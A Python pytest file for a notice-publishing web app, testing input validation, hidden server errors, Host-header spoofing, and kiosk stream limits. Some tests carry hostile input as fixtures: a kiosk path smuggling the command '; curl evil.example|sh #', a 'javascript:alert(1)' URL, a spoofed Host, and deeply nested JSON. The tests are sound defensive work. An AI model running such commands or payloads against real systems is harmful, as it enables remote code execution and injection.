"""Issue 9: bad input is a 4xx in the contract's shape, never a 500; 5xx are hidden."""

from __future__ import annotations

import asyncio
import sqlite3
import xml.etree.ElementTree as ET

import pytest
from aiohttp import web
from conftest import make_settings, publish
from refusals import refused, refused_page

from publisher import keys
from publisher.app import create_app


def code_of(body: dict) -> str:
    return body["error"]["code"]


@pytest.mark.parametrize("duration", ["P9999999999D", "PT99999999999999H"])
async def test_huge_durations_are_422(client, staff, helpers, duration) -> None:
    body = helpers.notice_body(schedule={"recurrence": {"rrule": "FREQ=DAILY", "duration": duration}})
    resp = await client.post("/api/v1/notices", json=body, headers=staff["ed"])
    assert resp.status == 422
    err = await resp.json()
    assert code_of(err) == "validation_failed" and err["error"]["details"][0]["field"] == "schedule.recurrence.duration"


@pytest.mark.parametrize("at", ["9999-12-31T23:00:00+00:00", "0001-01-01T00:00:00+08:00"])
async def test_extreme_at_is_422(client, staff, at) -> None:
    resp = await client.get("/api/v1/live", params={"channel": "portal", "at": at}, headers=staff["ed"])
    assert (await refused(resp, 422, "validation_failed"))["details"][0]["field"] == "at"


async def test_deeply_nested_json_is_400(client, staff) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    resp = await client.post("/api/v1/notices", data=deep, headers={**staff["ed"], "Content-Type": "application/json"})
    assert resp.status == 400 and code_of(await resp.json()) == "malformed_json"


async def test_non_ascii_digits_in_a_path_id_are_404(client, staff) -> None:
    for path in ("/api/v1/notices/³", "/api/v1/notices/٣/history"):
        resp = await client.get(path, headers=staff["ed"])
        assert resp.status == 404 and code_of(await resp.json()) == "not_found"


@pytest.mark.parametrize(("field", "value"), [("title", "標題\x0b"), ("title", "a\x1b[31m"), ("body", "nul\x00"),
                                               ("summary", "\u202etxt.exe"), ("led_text", "\ufffe"),
                                               ("meta.doc_number", "\x85")])
async def test_control_characters_are_refused_naming_the_field(client, staff, helpers, field, value) -> None:
    body = helpers.notice_body()
    if field.startswith("meta."):
        body["meta"] = {**body["meta"], field[5:]: value}
    else:
        body[field] = value
    resp = await client.post("/api/v1/notices", json=body, headers=staff["ed"])
    assert (await refused(resp, 422, "validation_failed"))["details"][0]["field"] == field


async def test_tabs_and_line_breaks_are_fine_and_atom_is_well_formed(client, staff) -> None:
    await publish(client, staff, title="招聘會 & <通知>", body="第一行\r\n\t第二行")
    resp = await client.get("/feed.atom", headers={"Host": "evil.example"})
    text = await resp.text()
    ET.fromstring(text.encode())  # well-formed
    assert "evil.example" not in text and 'href="/notices/' in text


async def test_atom_links_come_from_public_url(aiohttp_client, database_url, tmp_path, clock) -> None:
    settings = make_settings(database_url, tmp_path, server={"public_url": "https://notices.example.gov/"})
    client = await aiohttp_client(create_app(settings, clock=clock, run_scheduler=False))
    text = await (await client.get("/feed.atom", headers={"Host": "evil.example"})).text()
    assert "https://notices.example.gov/feed.atom" in text and "evil.example" not in text


def test_public_url_must_be_a_plain_address(database_url, tmp_path) -> None:
    from publisher.settings import ConfigError

    with pytest.raises(ConfigError, match="server.public_url"):
        make_settings(database_url, tmp_path, server={"public_url": "javascript:alert(1)"})


async def test_a_5xx_raised_as_http_exception_is_logged_and_hidden(client, staff, caplog) -> None:
    async def broken(request: web.Request) -> web.Response:
        raise web.HTTPInternalServerError(text="Template 'secret/path.html' not found")

    from publisher.http.instrument import instrument

    handler = instrument(broken, "/test")
    req = type("R", (), {})  # noqa: F841 - kept simple: call through a real request below
    resp = await client.get("/api/v1/notices", headers=staff["ed"])  # warm-up: the app works
    assert resp.status == 200
    from aiohttp.test_utils import make_mocked_request

    request = make_mocked_request("GET", "/api/v1/boom", app=client.server.app)
    answer = await handler(request)
    assert answer.status == 500
    body = answer.body.decode()
    assert "secret" not in body and "Template" not in body
    assert answer.headers["X-Request-Id"] in body


async def test_unregistered_kiosk_page_never_prints_a_command_with_attacker_text(client) -> None:
    resp = await client.get("/kiosk/x%3B%20curl%20evil.example%7Csh%20%23/")
    text = await resp.text()
    assert "curl" in await refused_page(resp, 404, "這個設備編號不合規格")  # the id is shown as text...
    assert "publisher device add" not in text  # ...but never as a command to run
    ok = await client.get("/kiosk/hall-1.kiosk_2/")
    assert "publisher device add hall-1.kiosk_2 --kind kiosk" in await ok.text()


async def test_event_streams_are_capped_per_device_and_end_when_revoked(client, staff, helpers) -> None:
    token = await helpers.add_device(client, staff, "k1", "kiosk")
    url = f"/kiosk/v1/k1/events?token={token}"
    streams = [await client.get(url) for _ in range(4)]
    assert all(s.status == 200 for s in streams)
    fifth = await client.get(url)
    assert fifth.status == 429 and code_of(await fifth.json()) == "too_many_streams"
    assert (await client.delete("/api/v1/devices/k1", headers=staff["boss"])).status == 200
    for s in streams:  # every open stream ends at once
        await asyncio.wait_for(s.read(), timeout=3)


async def test_sqlite_runs_with_synchronous_full(client, settings) -> None:
    if not settings.database.url.startswith("sqlite"):
        pytest.skip("SQLite only")
    async with client.server.app[keys.DB].read() as conn:
        level = (await conn.exec_driver_sql("PRAGMA synchronous")).scalar_one()
    assert level == 2  # FULL


async def test_a_failed_last_seen_flush_keeps_its_batch(client, staff, helpers, monkeypatch) -> None:
    token = await helpers.add_device(client, staff, "k1", "kiosk")
    assert (await client.get(f"/kiosk/v1/k1/feed.json?token={token}")).status == 200
    registry = client.server.app[keys.DEVICES]
    real_write = registry.db.write

    def failing_write():
        raise sqlite3.OperationalError("disk I/O error")

    monkeypatch.setattr(registry.db, "write", failing_write)
    with pytest.raises(sqlite3.OperationalError):
        await registry.flush()
    monkeypatch.setattr(registry.db, "write", real_write)
    assert await registry.flush() == 1
